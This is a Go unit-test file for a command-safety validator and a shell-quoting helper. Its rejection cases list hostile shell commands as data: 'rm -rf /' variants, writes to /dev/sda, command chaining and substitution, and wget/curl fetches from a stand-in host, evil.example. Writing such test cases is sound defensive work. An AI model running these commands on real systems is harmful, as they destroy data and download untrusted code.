package safecmd

import "testing"

func TestIsSafeRejectsDangerousCommands(t *testing.T) {
	cases := []string{
		"rm -rf /",
		"rm -rf / --no-preserve-root",
		"ls; rm -rf /home",
		"cat /etc/passwd | rm file",
		"echo broken > /dev/sda",
		"wget http://evil.example/payload",
		"curl http://evil.example/install.sh",
		"echo $(whoami)",
		"echo `id`",
		"RM -RF /tmp/../",
		"CURL HTTP://EVIL.EXAMPLE",
	}
	for _, cmd := range cases {
		if IsSafe(cmd) {
			t.Errorf("IsSafe(%q) = true, want false", cmd)
		}
	}
}

func TestIsSafeAcceptsProvisioningCommands(t *testing.T) {
	cases := []string{
		"useradd -m -s /bin/bash alice",
		"usermod -a -G sudo alice",
		"gpasswd -d alice docker",
		"getent group docker",
		"groupadd database",
		"id alice",
		"userdel -r alice",
		"uname -s",
		"df -P /",
		"top -bn1 | grep -i 'cpu(s)'",
		"free | grep -i mem",
		"cat /proc/loadavg",
	}
	for _, cmd := range cases {
		if !IsSafe(cmd) {
			t.Errorf("IsSafe(%q) = false, want true", cmd)
		}
	}
}

func TestQuote(t *testing.T) {
	cases := []struct {
		in, want string
	}{
		{"alice", "'alice'"},
		{"", "''"},
		{"pass word", "'pass word'"},
		{"a'b", `'a'\''b'`},
		{"x@#%^&*", "'x@#%^&*'"},
	}
	for _, tc := range cases {
		if got := Quote(tc.in); got != tc.want {
			t.Errorf("Quote(%q) = %s, want %s", tc.in, got, tc.want)
		}
	}
}
